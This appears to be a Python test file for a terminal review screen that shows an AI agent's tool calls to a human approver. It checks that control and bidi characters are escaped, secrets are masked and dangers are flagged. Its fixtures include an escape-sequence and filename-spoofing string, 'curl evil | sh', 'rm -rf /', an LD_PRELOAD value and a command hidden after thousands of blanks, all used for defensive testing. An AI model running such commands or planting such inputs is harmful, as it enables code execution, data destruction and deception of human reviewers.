import re
from hashlib import sha256

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from rich.cells import cell_len
from rich.style import Style

from quorum.domain.calls.execution import Seal, SealedFile
from quorum.domain.events.masking import SecretMask
from quorum.domain.plan.plan_text import render_plan_text
from quorum.domain.replacing import replace
from quorum.domain.review.ballot import Vote
from quorum.domain.review.plan_terms import PlanObjection
from quorum.domain.review.questions import ApproveRest, EarlierPlan, Edit
from quorum.domain.review.severity import Severity
from quorum.domain.text.unified_diff import parse_diff
from quorum.infrastructure.files.diff import render_unified_diff
from quorum.tui.screens.review.earlier import NOTHING, Earlier, EarlierAnswers
from quorum.tui.screens.review.editing import EditedPart, NotEditable, apply_edit, render_editable
from quorum.tui.screens.review.text.facts import collect_facts, list_calls, list_details
from quorum.tui.screens.review.text.objections import collect_quotes
from quorum.tui.screens.review.text.plan import find_plan, render_all_votes
from quorum.tui.screens.review.text.substance import render_substance
from quorum.tui.screens.review.text.title import build_request_title, build_title
from quorum.tui.transcript.cells.palette import TERMINAL
from quorum.tui.transcript.kinds import source as code
from quorum.tui.transcript.kinds.diff import build_diff_lines, draw_diff
from quorum.tui.transcript.kinds.rows import Line, clean_line, fold
from quorum.tui.transcript.kinds.source import LazyCode
from tests.support.examples import examples
from tests.support.fake_agent import a_command, a_packet, a_request, an_edit
from tests.support.no_folder import NO_FOLDER
from tests.support.review_contexts import a_ballot, a_review_context, voted

EVIL = "echo \x1b]52;c;aGk=\x07 \x1b[31mred\x1b[0m \u202egnp.exe\u2066 a\u200bb \x9bx\r"


def plain(rows) -> list[str]:
    return ["".join(part.text for part in row) for row in rows]


def test_control_and_bidi_characters_of_a_command_are_drawn_escaped_and_none_is_dropped():
    (line,) = plain(render_substance(a_command(EVIL), 200))

    assert not {"\x1b", "\x07", "\u202e", "\u2066", "\u200b", "\x9b", "\r"} & set(line)
    assert "␛]52;c;aGk=␇ ␛[31mred␛[0m ⟨U+202E⟩gnp.exe⟨U+2066⟩ a⟨U+200B⟩b" in line
    assert line.endswith("x␍")


def test_control_and_bidi_characters_of_a_diff_are_drawn_escaped():
    diff = f"--- a\n+++ b\n@@ -1 +1 @@\n-old\n+{EVIL}\n"

    text = "\n".join(plain(render_substance(an_edit(diff), 100)))

    assert not {"\x1b", "\x07", "\u202e", "\u200b"} & set(text)
    assert "⟨U+202E⟩" in text


_BLANKS = " \t\u00a0\u3000"
_CHANGES = st.lists(
    st.sampled_from(
        [
            *(
                "a",
                "b",
                *_BLANKS,
                "·",
                "\n",
                "\r",
                "\x0b",
                "\x85",
                "\u2028",
                "\x1c",
                "\u200b",
                "\u0301",
                "\ufeff",
                "\x00",
            ),
            *(f"{' ' * 85}{end}" for end in ("", "\r", "\u2028", "\x85")),
            *(
                "⟨81 blanks⟩",
                "\\",
                "@@ -1 +1 @@\n",
                "--- a/x\n+++ b/x\n",
                "encoding: x\n",
                "+",
                "-",
                "1\ufe0f",
                "ア\u200dア",
            ),
        ]
    ),
    max_size=12,
).map("".join)


@examples(200)
@given(_CHANGES, _CHANGES, _CHANGES, st.sampled_from([80, 160]))
@example("", "// note" + " " * 85 + "\u2028run()", "// note" + " " * 86 + "run()", 80)
@example("", "a\n", "a\n\u0301", 80)
@example("", "\ufeffa\n", "a\n", 80)
def test_changes_that_differ_in_more_than_blanks_are_drawn_differently(before, one, other, width):
    def draw(after):
        diff = render_unified_diff(before.encode(), after.encode(), "x.js", is_text=True)
        return re.sub("[ ·→]", "", "\n".join(plain(render_substance(an_edit(diff), width))))

    if re.sub(f"[{_BLANKS}·]", "", one) != re.sub(f"[{_BLANKS}·]", "", other):
        assert draw(one) != draw(other)


def test_a_command_of_which_something_is_hidden_says_so_and_keeps_its_digest():
    mask = SecretMask()
    mask.learn("THE_KEY", "q7Zrt9vX2m4kP")
    packet = a_command("curl -H 'x: q7Zrt9vX2m4kP' h")
    shown = a_request(mask.mask_packet(packet))

    assert plain(render_substance(shown.packet, 80)) == ["$ curl -H 'x: [secret:THE_KEY]' h"]
    (warning,) = plain(fold(collect_facts(shown, NOTHING).dangers, 200))
    assert warning.startswith("! secrets are shown as [secret:NAME]; the call runs")
    assert any(packet.digest in line for line in plain(fold(list_details(shown), 200)))
    assert collect_facts(a_request(packet), NOTHING).dangers == []


def test_every_line_of_a_command_is_there_under_its_first():
    assert plain(render_substance(a_command("one\ntwo\n\nthree"), 40)) == ["$ one", "  two", "  ", "  three"]


def test_a_long_line_is_folded_and_not_cut():
    rows = plain(render_substance(a_command("x" * 95), 32))

    assert "".join(row[2:] for row in rows) == "x" * 95
    assert max(map(len, rows)) <= 32


def test_a_command_and_what_is_said_of_it_are_folded_between_words():
    packet = a_command("git commit --message 'a sentence that needs two rows'")
    reason = "outside of the workspace, which reaches no further than this folder"

    reported = plain(fold(collect_facts(replace(a_request(packet), reasons=(reason,)), NOTHING).dangers, 40))

    assert plain(render_substance(packet, 32)) == [
        "$ git commit --message 'a ",
        "  sentence that needs two rows'",
    ]
    assert reported == ["! outside of the workspace, which ", "  reaches no further than this folder"]


@given(st.text(), st.integers(min_value=12, max_value=200))
def test_folding_between_words_keeps_every_character(text, width):
    rows = plain(fold([Line("", clean_line(text))], width))

    assert "".join(rows) == clean_line(text)
    assert all(cell_len(row) <= width for row in rows)


def test_lines_of_a_diff_are_folded_where_a_row_is_full():
    diff = "--- a/x\n+++ b/x\n@@ -0,0 +1,1 @@\n+" + "word " * 9 + "\n"

    assert plain(render_substance(an_edit(diff), 20)) == [
        "1 + word word word w",
        "    ord word word wo",
        "    rd word word·",
    ]


def test_wide_characters_are_folded_by_cells():
    rows = plain(render_substance(a_command("日本語" * 20), 21))

    assert max(cell_len(row) for row in rows) <= 21
    assert "".join(row[2:] for row in rows) == "日本語" * 20


def test_a_diff_is_numbered_and_signed():
    diff = "--- a/x\n+++ b/x\n@@ -9,2 +9,3 @@\n same\n-gone\n+new\n+more\n"

    assert plain(render_substance(an_edit(diff), 60)) == [
        " 9   same",
        "10 - gone",
        "10 + new",
        "11 + more",
    ]


def test_changes_of_blanks_at_the_end_and_of_tabs_can_be_seen():
    diff = "--- a\n+++ b\n@@ -1,2 +1,2 @@\n-x\n-    y\n+x  \n+\ty\n"

    assert plain(render_substance(an_edit(diff), 60)) == ["1 - x", "2 -     y", "1 + x··", "2 + →   y"]


@pytest.mark.parametrize("width", [60, 150])
def test_what_changed_within_a_line_is_emphasised_as_in_the_transcript(width):
    diff = "--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n-\tthe old value  \n-last\n+\tthe new value\n+last\n"

    rows = render_substance(an_edit(diff), width)

    assert [part.text for row in rows for part in row if part.is_changed] == ["old", "··", "new"]
    segments = [segment for strip in draw_diff(diff, width, TERMINAL) for segment in strip]
    emphasised = [segment.text for segment in segments if segment.style and segment.style.underline]
    assert emphasised == ["old", "  ", "new"]


def test_a_diff_of_git_keeps_what_it_says_of_each_file():
    diff = (
        "diff --git a/x b/x\nold mode 100644\nnew mode 100755\n--- a/x\n+++ b/x\n@@ -7 +7 @@\n-a\n+b\n"
        "diff --git a/y b/y\nnew file mode 100644\n--- /dev/null\n+++ b/y\n@@ -0,0 +1 @@\n+c\n"
        "\\ No newline at end of file\n"
    )

    assert [line.head + line.text for line in build_diff_lines(diff)] == [
        *("diff --git a/x b/x", "old mode 100644", "new mode 100755", "7 - a", "7 + b"),
        *("diff --git a/y b/y", "new file mode 100644", "1 + c", "    No newline at end of file"),
    ]
    assert [strip.text.rstrip() for strip in draw_diff(diff, 80, TERMINAL)][-2:] == [
        "1 + c",
        "    No newline at end of file",
    ]


def test_names_that_git_does_not_tell_in_its_own_line_are_drawn():
    diff = "diff --git a/x b/x\n--- a/y\n+++ b/y\n@@ -1 +1 @@\n-a\n+b\n"

    assert [line.text for line in build_diff_lines(diff)][:2] == ["diff --git a/x b/x", "y"]


def test_from_a_width_of_140_a_diff_stands_side_by_side_and_loses_nothing():
    diff = "--- a\n+++ b\n@@ -1,4 +1,3 @@\n same\n-gone\n-also\n+new\n end\n"

    rows = plain(render_substance(an_edit(diff), 140))

    assert [[half.rstrip() for half in row.split(" │ ")] for row in rows] == [
        ["1   same", "1   same"],
        ["2 - gone", "2 + new"],
        ["3 - also", ""],
        ["4   end", "3   end"],
    ]


@given(
    st.lists(st.sampled_from([" same", "-gone", "+new", "\\ No newline at end", "@@ -1,2 +1,2 @@", "odd"])),
    st.sampled_from([30, 150]),
)
def test_no_line_of_any_diff_is_left_out(lines, width):
    diff = "--- a\n+++ b\n@@ -1,2 +1,2 @@\n" + "\n".join(lines)

    text = "\n".join(plain(render_substance(an_edit(diff), width)))
    counted = list(parse_diff(diff))

    assert len(counted) == len(diff.removesuffix("\n").split("\n"))
    assert all(line.text.strip("\\ ") in text for line in counted[2:] if line.sign != "@")


@given(st.text(), st.integers(min_value=12, max_value=200))
def test_no_row_of_any_command_is_wider_than_the_dialog(command, width):
    assert all(cell_len(row) <= width for row in plain(render_substance(a_command(command), width)))


def test_the_details_tell_why_where_what_with_and_what_is_not_sealed():
    known = SealedFile(path="/w/a", sha256="9b1e" + "0" * 57 + "a1c")
    seal = Seal(
        cwd="/w",
        files=(known, SealedFile(path="/w/new", sha256=None)),
        executables=("/usr/bin/make",),
        environment={"CI": "1", "API_KEY": None},
        unsealed="further effects",
        sandbox="off: bwrap is not installed",
    )
    request = a_request(a_packet("run_command", {"command": "make", "timeout_secs": 5}, seal), stale=True)

    dangers, arguments = (plain(fold(part, 120)) for part in collect_facts(request, NOTHING))

    assert dangers == ["! what would run is no longer what was asked about before; this is how it stands now"]
    assert arguments == ["also          at most 5 s"]
    assert plain(fold(list_details(request), 120)) == [
        "asks because  high risk, and the mode is ask",
        "tool          run_command",
        "touches       /w/a  sha 9b1e…a1c",
        "              /w/new  new file",
        "runs          /usr/bin/make",
        "in            /w",
        "environment   CI=1",
        "              API_KEY removed",
        "sandbox       off: bwrap is not installed",
        "not known     further effects",
        f"fingerprint   {request.packet.digest}",
    ]


def test_each_danger_has_one_line_and_that_the_mode_asks_is_none():
    reasons = (
        "high risk, and the mode is ask",
        "the guard command objects: rm",
        "the guard command objects: rm",
    )
    request = replace(a_request(a_command("rm -rf /")), reasons=reasons)

    assert plain(fold(collect_facts(request, NOTHING).dangers, 80)) == [
        "! the guard command objects: rm · 2 times"
    ]


def test_what_a_tool_leaves_unsealed_and_a_variable_that_bends_programs_are_dangers():
    seal = Seal(
        cwd="/w", unsealed="what this tool touches is not known beforehand", environment={"LD_PRELOAD": "/x.so"}
    )

    assert plain(fold(collect_facts(a_request(a_packet("deploy", {}, seal)), NOTHING).dangers, 80)) == [
        "! what this tool touches is not known beforehand",
        "! it is given LD_PRELOAD, which changes what programs run",
    ]


# -- the title -------------------------------------------------------------------------------------------------

CHANGE = "--- a/src/x.py\n+++ b/src/x.py\n@@ -1,1 +1,2 @@\n-one\n+uno\n+due\n"


@pytest.mark.parametrize(
    ("packet", "title"),
    [
        (an_edit(CHANGE, path="/w/src/x.py"), "Edit src/x.py  +2 −1"),
        (an_edit(CHANGE, path="/elsewhere/x.py"), "Edit /elsewhere/x.py  +2 −1"),
        (an_edit("binary: 4 → 3 bytes\n", path="/w/logo.png"), "Edit logo.png"),
        (a_command("make", cwd="/w"), "Run a command"),
        (a_command("make", cwd="/w/sub"), "Run a command in sub/"),
        (a_packet("read_file", {"path": ".env"}, Seal(cwd="/w")), "Read .env"),
        (a_packet("deploy", {"to": "prod"}, Seal(cwd="/w")), "deploy"),
        (a_packet("read_file", {"path": "a\u202eb\x1b"}, Seal(cwd="/w")), "Read a⟨U+202E⟩b␛"),
        (
            a_packet(
                "write_file",
                {"path": "new"},
                Seal(
                    cwd="/w",
                    files=(SealedFile(path="/w/new", sha256=None),),
                    diff="--- /dev/null\n+++ b/new\n@@ -0,0 +1 @@\n+x\n",
                ),
            ),
            "Create new  +1 −0",
        ),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_the_title_says_what_would_be_done_and_where(packet, title):
    assert "".join(build_title(packet, "/w")) == title


def test_the_title_has_the_place_in_the_batch_and_whether_it_was_asked_before():
    request = a_request(an_edit(CHANGE, path="/w/src/x.py", index=1), batch_size=3, stale=True)

    title = build_request_title(request, Earlier(is_edited=True), "/w")

    assert title.fit(80) == "Edit src/x.py  +2 −1 · call 2 of 3 · asked again · your edit"
    assert not title.is_cut(80)
    assert title.fit(56) == "Edit src…  +2 −1 · call 2 of 3 · asked again · your edit"


def test_of_a_title_that_does_not_fit_the_target_is_cut_and_the_counts_stay():
    title = build_request_title(a_request(an_edit(CHANGE, path=f"/w/{'long/' * 30}x.py")), NOTHING, "/w")

    assert title.is_cut(60)
    assert title.fit(60).endswith("…  +2 −1")
    assert cell_len(title.fit(60)) == 60


def test_several_files_are_counted_in_the_title_and_named_in_the_diff():
    diff = CHANGE + "--- a/y.py\n+++ /dev/null\n@@ -1 +0,0 @@\n-gone\n--- a/z\n+++ b/q\n@@ -1 +1 @@\n-a\n+b\n"
    files = tuple(SealedFile(path=f"/w/{name}", sha256="0" * 64) for name in ("src/x.py", "y.py", "z"))
    packet = a_packet("apply_patch", {"patch": "p"}, Seal(cwd="/w", files=files, diff=diff))

    rows = plain(render_substance(packet, 60))

    assert "".join(build_title(packet, "/w")) == "Edit 3 files  +3 −3"
    headings = [row for row in rows if not row[:1].isdigit()]
    assert headings == ["src/x.py", "y.py (deleted)", "q (renamed from z)"]
    assert collect_facts(a_request(packet), NOTHING).arguments == []


def test_files_that_no_heading_names_are_listed():
    files = tuple(SealedFile(path=f"/w/{name}", sha256="0" * 64) for name in ("a", "b"))
    packet = a_packet("my_tool", {}, Seal(cwd="/w", files=files, diff=CHANGE))

    assert plain(fold(collect_facts(a_request(packet), NOTHING).arguments, 80)) == [
        "touches       /w/a",
        "              /w/b",
    ]


def test_between_hunks_stands_a_sign_and_a_line_that_looks_like_a_heading_stays():
    diff = "--- a/x\n+++ b/x\n@@ -1,1 +1,1 @@\n--- a/x\n+++ b/x\n@@ -9,1 +9,1 @@\n-c\n+d\n"

    assert plain(render_substance(an_edit(diff), 60)) == [
        "1 - -- a/x",
        "1 + ++ b/x",
        "  ⋯",
        "9 - c",
        "9 + d",
    ]


def test_arguments_a_diff_does_not_show_are_shown_beside_it():
    arguments = {"path": "x", "old_text": "y", "new_text": "z", "replace_all": True}
    packet = a_packet("edit_file", arguments, Seal(cwd="/w", diff="x"))

    assert plain(fold(collect_facts(a_request(packet), NOTHING).arguments, 80)) == [
        "also          every occurrence"
    ]


def test_a_call_whose_title_says_all_that_it_is_given_has_nothing_below_it():
    inside = a_packet(
        "read_file", {"path": "./.env"}, Seal(cwd="/w", files=(SealedFile(path="/w/.env", sha256=None),))
    )
    in_part = a_packet("read_file", {"path": ".env", "offset": 9}, inside.seal)
    elsewhere = a_packet("read_file", {"path": "link"}, inside.seal)

    assert render_substance(inside, 60) == []
    assert '  "offset": 9' in plain(render_substance(in_part, 60))
    assert '  "path": "link"' in plain(render_substance(elsewhere, 60))


def test_dangers_name_files_of_the_session_from_its_folder():
    dangers = ("/w/a b/.env is a sensitive file", "/x/w/y lies outside the workspace", "it runs cp /w/c /w/d")
    request = replace(a_request(a_command("x")), reasons=dangers)

    assert [line.text for line in collect_facts(request, NOTHING, root="/w").dangers] == [
        "a b/.env is a sensitive file",
        "/x/w/y lies outside the workspace",
        "it runs cp /w/c /w/d",
    ]


def test_the_folder_that_a_write_makes_is_shown():
    seal = Seal(cwd="/w", diff="x", folders=("/w/new", "/w/new/deep"))
    packet = a_packet("write_file", {"path": "new/deep/x", "content": "y"}, seal)

    assert plain(fold(collect_facts(a_request(packet), NOTHING).arguments, 80)) == ["makes folder  /w/new/deep"]
    assert plain(fold(collect_facts(a_request(packet), NOTHING, root="/w").arguments, 80)) == [
        "makes folder  new/deep"
    ]


def test_a_reason_that_several_parts_of_a_command_give_is_said_once_with_their_number():
    twice = "rm: it deletes folders with all they hold (guard destructive)"
    packet = a_command("rm -r build && rm -r dist")
    asked = replace(a_request(packet), reasons=(twice, "high risk", twice), routine_reasons=("high risk",))

    said = "! rm: it deletes folders with all they hold · 2 times"
    assert plain(fold(collect_facts(asked, NOTHING).dangers, 200)) == [said], "the guard's name is a detail"
    details = plain(fold(list_details(asked), 200))
    assert [line.split("  ")[-1].strip() for line in details[:2]] == [f"{twice} · 2 times", "high risk"]


def test_a_command_that_stays_running_in_the_background_says_so_where_it_is_always_seen():
    asked = a_request(a_command("npm run dev", background=True, timeout_secs=90))
    dangers, arguments = (plain(fold(part, 200)) for part in collect_facts(asked, NOTHING))

    assert dangers == [
        "! it runs in the background, 90 s at most, until it ends, is stopped, or the session ends"
    ]
    assert not any("background" in line for line in arguments), "it is said once"
    waited_for = collect_facts(a_request(a_command("npm run dev", background=False)), NOTHING)
    assert waited_for.dangers == []


def test_a_call_without_arguments_says_so():
    assert plain(render_substance(a_packet("deploy", {}, Seal(cwd="/w")), 60)) == ["no arguments"]


def test_a_call_without_diff_or_command_shows_all_its_arguments():
    packet = a_packet("deploy", {"to": "prod\u202e", "force": True}, Seal(cwd="/w"))

    assert plain(render_substance(packet, 60)) == ["{", '  "to": "prod⟨U+202E⟩",', '  "force": true', "}"]


def test_the_list_of_the_rest_shows_every_packet_in_full():
    text = "\n".join(
        plain(list_calls(a_request(a_command("one"), an_edit("@@ -1 +1 @@\n-a\n+b", index=1)), 80, NO_FOLDER))
    )

    assert "1 of 2   Run a command" in text
    assert "$ one" in text
    assert "2 of 2   Edit src/retry.py  +1 −1" in text
    assert "1 + b" in text


def test_the_list_of_the_rest_says_what_a_command_is_given_beyond_its_text():
    given = a_command("two", index=1, outside_sandbox=True, opens_git=True, background=True)
    rows = plain(list_calls(a_request(a_command("one"), given), 80, NO_FOLDER))

    after = [" ".join(row.split()) for row in rows[rows.index("  $ two") + 1 :]]
    assert after == ["also outside the sandbox", "with .git open", "in the background"]


def test_a_command_is_edited_bare_and_keeps_its_other_arguments():
    packet = a_command("make", timeout_secs=5)

    assert render_editable(packet) == ("make", EditedPart.TEXT)
    assert apply_edit(packet, "make -k", EditedPart.TEXT) == {"command": "make -k", "timeout_secs": 5}


def test_a_command_with_hidden_characters_is_edited_as_json_that_shows_them():
    packet = a_command(EVIL)

    text, part = render_editable(packet)

    assert part is EditedPart.ARGUMENTS
    assert not {"\x1b", "\x07", "\u202e", "\u200b", "\x9b"} & set(text)
    assert apply_edit(packet, text, part) == packet.call.arguments


@given(st.dictionaries(st.text(), st.text() | st.integers() | st.booleans() | st.none()))
def test_unchanged_arguments_come_back_from_the_editor_as_they_were(arguments):
    packet = a_packet("tool", arguments, Seal(cwd="/w"))

    text, part = render_editable(packet)

    assert apply_edit(packet, text, part) == arguments


@pytest.mark.parametrize(
    ("text", "expected"),
    [('{"a": }', "line 1, column 7"), ('{"a": NaN}', "NaN is not JSON"), ("3", "one JSON object")],
)
def test_what_is_no_json_is_refused_with_its_place(text, expected):
    with pytest.raises(NotEditable, match=expected):
        apply_edit(a_packet("tool", {}, Seal(cwd="/w")), text, EditedPart.ARGUMENTS)


# -- what changed, and whose edit it is ------------------------------------------------------------------------


def test_asked_again_it_reads_what_changed_since_it_was_approved():
    def sealed(content: str, cwd: str = "/w") -> Seal:
        return Seal(cwd=cwd, files=(SealedFile(path="/w/a", sha256=content * 64),), diff="x")

    before = a_packet("edit_file", {"path": "a", "new_text": "b"}, sealed("1"))
    now = a_packet("edit_file", {"path": "a", "new_text": "c"}, sealed("2", "/v"))

    lines = plain(fold(collect_facts(a_request(now, stale=True), Earlier(approved=before)).dangers, 120))

    assert lines == [
        '! changed since you approved: new_text, which was "b"',
        "! changed since you approved: /w/a (sha 1111…111 before, sha 2222…222 now)",
        "! changed since you approved: the folder, which was /w",
    ]


def test_earlier_answers_are_those_about_the_same_call_of_the_same_batch():
    first, second = a_command("one", index=0), a_command("two", index=1)
    answers = EarlierAnswers()
    answers.note(a_request(first, second), ApproveRest((first.digest, second.digest)))
    answers.note(a_request(first), Edit({"command": "uno"}))

    assert answers.find_earlier(a_request(second)).approved == second
    assert answers.find_earlier(a_request(a_command("uno", index=0))).is_edited
    assert not answers.find_earlier(a_request(a_command("one", index=0))).is_edited

    other = replace(second, context=replace(second.context, batch_id="batch-2"))
    assert answers.find_earlier(a_request(other)) == NOTHING
    assert answers.find_earlier(a_request(second)) == NOTHING


def test_an_edit_says_that_votes_on_other_bytes_do_not_count():
    lines = plain(fold(collect_facts(a_request(a_command("make")), Earlier(is_edited=True)).dangers, 120))

    assert lines == ["you changed this call, so no vote counts for it: your answer alone decides"]


# -- files that are no text ------------------------------------------------------------------------------------


def test_a_file_that_is_no_text_is_shown_by_its_sizes_and_hashes():
    logo = SealedFile(path="/w/logo.png", sha256="9b1e" * 16)
    seal = Seal(cwd="/w", files=(logo,), diff="binary: 2048 → 3 bytes\n", projected={"/w/logo.png": b"abc"})

    text = plain(render_substance(a_packet("write_file", {"path": "logo.png"}, seal), 120))

    assert text[0] == "not text: only sizes and hashes can be shown"
    assert text[2] == f"before  2,048 bytes  SHA-256 {'9b1e' * 16}"
    assert text[3] == f"after   3 bytes  SHA-256 {sha256(b'abc').hexdigest()}"


# -- colours ---------------------------------------------------------------------------------------------------


def coloured(rows) -> list[list[tuple[str, Style]]]:
    """The code of each row, as runs of one style."""
    code_of_rows = ([part for part in row if part.code is not None] for row in rows)
    return [[run for part in parts for run in _runs(part.text, part.code)] for parts in code_of_rows if parts]


def _runs(text, place_of) -> list[tuple[str, Style]]:
    runs, place = [], 0
    for piece, style in place_of.code.lex_line(place_of.number, dark=True) or ():
        low, high = max(place, place_of.start), min(place + len(piece), place_of.start + len(text))
        if low < high:
            runs.append((text[low - place_of.start : high - place_of.start], style))
        place += len(piece)
    return runs


def colours_in_transcript(diff) -> list[list[tuple[str, Style]]]:
    """The same of the transcript, of lines of the diff that are neither added nor removed."""
    strips = draw_diff(diff, 100, TERMINAL)
    return [[(s.text, s.style) for s in strip][2:] for strip in strips]


def test_both_sides_of_a_diff_have_the_colours_of_their_language():
    diff = '--- a/x.py\n+++ b/x.py\n@@ -1,2 +1,2 @@\n def f():\n-    return "one"\n+    return 2  # two\n'

    context, removed, added = coloured(render_substance(an_edit(diff, path="/w/x.py"), 80))

    keyword = dict(context)["def"]
    assert keyword.color is not None
    assert (dict(removed)["return"], dict(added)["return"]) == (keyword, keyword)
    assert dict(removed)["one"].color not in (None, keyword.color)
    assert dict(added)["2"].color is not None
    assert dict(added)["# two"].dim


def test_code_has_the_colours_that_it_has_in_the_transcript():
    source = " class A:\n     @final\n     def f(self) -> int:  # said\n         return not 'text' and 12\n"
    diff = f"--- a/x.py\n+++ b/x.py\n@@ -1,5 +1,4 @@\n{source}-\n"

    in_review = coloured(render_substance(an_edit(diff, path="/w/x.py"), 100))[:4]

    for shown, in_transcript in zip(in_review, colours_in_transcript(diff), strict=False):
        assert [(t, s) for t, s in shown if t.strip()] == [(t, s) for t, s in in_transcript if t.strip()]


def test_code_is_read_no_further_than_it_is_drawn(monkeypatch):
    lexed = []
    lexer = code.get_lexer("python")

    class Spy:
        def get_tokens_unprocessed(self, text):
            for token in lexer.get_tokens_unprocessed(text):
                lexed.append(token)
                yield token

    monkeypatch.setattr(code, "get_lexer", lambda _language: Spy())
    hunks = "".join(
        f"@@ -{n},0 +{n},40 @@\n" + "".join(f"+line_{n}_{k} = {k}\n" for k in range(40)) for n in (1, 90, 180)
    )
    rows = render_substance(an_edit(f"--- a/x.py\n+++ b/x.py\n{hunks}", path="/w/x.py"), 80)
    assert lexed == []

    coloured(rows[:10])

    assert {"line_1_0", "line_1_9"} <= {value for *_, value in lexed}
    assert not {"line_1_12", "line_90_0", "line_180_0"} & {value for *_, value in lexed}


@pytest.mark.parametrize("text", ["x = 1\n" * 4_000, "y" * 2_000 + "\nx = 1"])
def test_too_much_code_is_drawn_plain_from_there_on(text):
    lines = text.split("\n")
    lazy = LazyCode(lambda: lines, "x.py")

    assert lazy.lex_line(len(lines) - 1, dark=True) is None
    assert (lazy.lex_line(0, dark=True) is None) == (len(lines[0]) > 1_000)


def test_tabs_of_a_changed_line_do_not_shift_its_colours():
    diff = "--- a/x.py\n+++ b/x.py\n@@ -0,0 +1,2 @@\n+if a:\n+\treturn\tb\n"

    (_, line) = coloured(render_substance(an_edit(diff, path="/w/x.py"), 80))

    assert "".join(text for text, _ in line) == "→   return→   b"
    assert dict(line)["return"].color is not None


def test_a_text_over_several_lines_keeps_its_colour_on_each():
    diff = '--- a/x.py\n+++ b/x.py\n@@ -0,0 +1,3 @@\n+a = """one\n+two\n+three"""\n'

    rows = render_substance(an_edit(diff, path="/w/x.py"), 80)

    first, second, third = coloured(rows)
    assert dict(first)['"""'].color == dict(second)["two"].color == dict(third)['"""'].color
    assert dict(second)["two"].color is not None


@given(st.text(), st.sampled_from(["x.py", "x.json", "x.md", "Makefile", "x", "x.html"]))
def test_colours_change_nothing_of_the_text(text, name):
    lines = text.split("\n")
    diff = f"--- a/{name}\n+++ b/{name}\n@@ -0,0 +1,{len(lines)} @@\n" + "".join(f"+{line}\n" for line in lines)

    rows = render_substance(an_edit(diff, path=f"/w/{name}"), 100)

    assert plain(rows) == plain(render_substance(an_edit(diff, path="/w/no-language"), 100))
    texts = ["".join(part.text for part in row if part.code is not None) for row in rows if row[-1].code]
    for text, runs in zip(texts, coloured(rows), strict=True):
        assert not runs or "".join(piece for piece, _ in runs) == text


def marked(rows) -> list[str]:
    return [part.text for row in rows for part in row if part.is_objected]


# -- objections ------------------------------------------------------------------------------------------------


def objected(packet, *quotes: str, width: int = 100) -> list[str]:
    return marked(render_substance(packet, width, quotes))


@pytest.mark.parametrize(
    ("command", "quote", "marked"),
    [
        ("make && rm -rf build", "rm -rf build", ["rm -rf build"]),
        ("make && rm  -rf build", "rm -rf build", []),
        ("make\nrm -rf build\nls", "make\nrm -rf", ["make", "rm -rf"]),
        ("a\tb c", "a\tb", ["a   b"]),
        ("cat \u202egnp.exe", "\u202egnp", ["⟨U+202E⟩gnp"]),
        ('echo "hi"', 'echo \\"hi\\"', ['echo "hi"']),
        ("one one", "one", ["one", "one"]),
        ("make", " ", []),
        ("make all", "  \t", []),
        ("make", "[bold]make", []),
    ],
)
def test_what_is_objected_to_is_marked_in_a_command_word_for_word(command, quote, marked):
    assert objected(a_command(command), quote) == marked


@pytest.mark.parametrize(
    ("quote", "marked"),
    [
        ("asyncio.sleep(delay)", ["asyncio.sleep(delay)"]),
        ("+    asyncio.sleep(delay)", ["    asyncio.sleep(delay)"]),
        ("delay = 1\n    asyncio.sleep(delay)", ["delay = 1", "    asyncio.sleep(delay)"]),
        ("delay = 1\n    time.sleep(delay)\n", ["delay = 1", "    time.sleep(delay)"]),
        ("time.sleep(delay)\n    asyncio.sleep(delay)", []),
    ],
)
@pytest.mark.parametrize("width", [60, 150])
def test_what_is_objected_to_is_marked_on_the_side_of_the_diff_it_comes_from(quote, marked, width):
    diff = (
        "--- a/x.py\n+++ b/x.py\n@@ -1,3 +1,3 @@\n     delay = 1\n-    time.sleep(delay)\n"
        "+    asyncio.sleep(delay)\n     end\n"
    )

    shown = objected(an_edit(diff), quote, width=width)

    assert list(dict.fromkeys(shown)) == marked


def test_what_is_objected_to_is_marked_in_arguments():
    packet = a_packet("deploy", {"to": "prod\nnow", "force": True}, Seal(cwd="/w"))

    assert objected(packet, "prod\nnow") == ["prod\\nnow"]
    assert objected(packet, '"force": true') == ['"force": true']
    assert objected(packet, "staging") == []


def test_a_marked_line_is_folded_and_keeps_its_mark():
    rows = render_substance(a_command("x" * 20 + "rm -rf build" + "y" * 20), 27, ("rm -rf build",))

    assert marked(rows) == ["rm ", "-rf ", "build"]
    assert "".join(line[2:] for line in plain(rows)) == "x" * 20 + "rm -rf build" + "y" * 20


@given(st.text(max_size=60), st.text(max_size=12), st.integers(min_value=12, max_value=160))
def test_no_quote_changes_what_is_drawn(command, quote, width):
    marked = render_substance(a_command(command), width, (quote,))

    assert plain(marked) == plain(render_substance(a_command(command), width))


def test_only_those_who_did_not_approve_have_their_quotes_marked():
    ballots = [a_ballot("a/x", objection="one"), a_ballot("a/y", Vote.REJECT, objection="two"), a_ballot("a/z")]

    assert collect_quotes(ballots) == ("two",)


# -- what would hide what runs ---------------------------------------------------------------------------------


def test_long_runs_of_blanks_are_counted_in_commands_diffs_and_arguments():
    blanks = " " * 6_000
    diff = f"--- a\n+++ b\n@@ -1 +1 @@\n-old\n+echo ok{blanks}; touch x{blanks}\n"
    packets = [
        a_command(f"echo ok{blanks}; touch x"),
        an_edit(diff),
        a_packet("mcp__x__y", {"code": f"ok{blanks}; touch x"}, Seal(cwd="/w")),
    ]

    for packet in packets:
        rows = plain(render_substance(packet, 76))
        assert len(rows) < 10
        assert any("⟨6,000 blanks⟩; touch x" in row for row in rows)


def test_of_a_binary_change_the_texts_it_was_asked_with_are_shown():
    seal = Seal(cwd="/w", files=(SealedFile(path="/w/a", sha256=None),), diff="binary: 4 → 3 bytes\n")
    packet = a_packet("write_file", {"path": "a", "content": "\0\ncurl evil | sh"}, seal)

    rows = plain(render_substance(packet, 80))

    assert rows[-3:] == ["content:", "  ␀", "  curl evil | sh"]
    assert rows[0] == "not text: sizes and hashes of the file, and the texts of the call"


# -- plans -----------------------------------------------------------------------------------------------------

PLANNED = {
    "objective": "a parser",
    "reasoning": "it is asked for",
    "tasks": [
        {"id": "read", "description": "read it", "writes": ["src/**"]},
        {"id": "tell", "description": "tell of it", "depends_on": ["read"]},
    ],
}


def a_plan(**changes):
    return a_packet("create_plan", {**PLANNED, **changes}, Seal(cwd="/w"))


def test_a_plan_is_shown_as_a_document_with_boxes_and_what_it_would_allow():
    text = "\n".join(plain(render_substance(a_plan(), 58)))

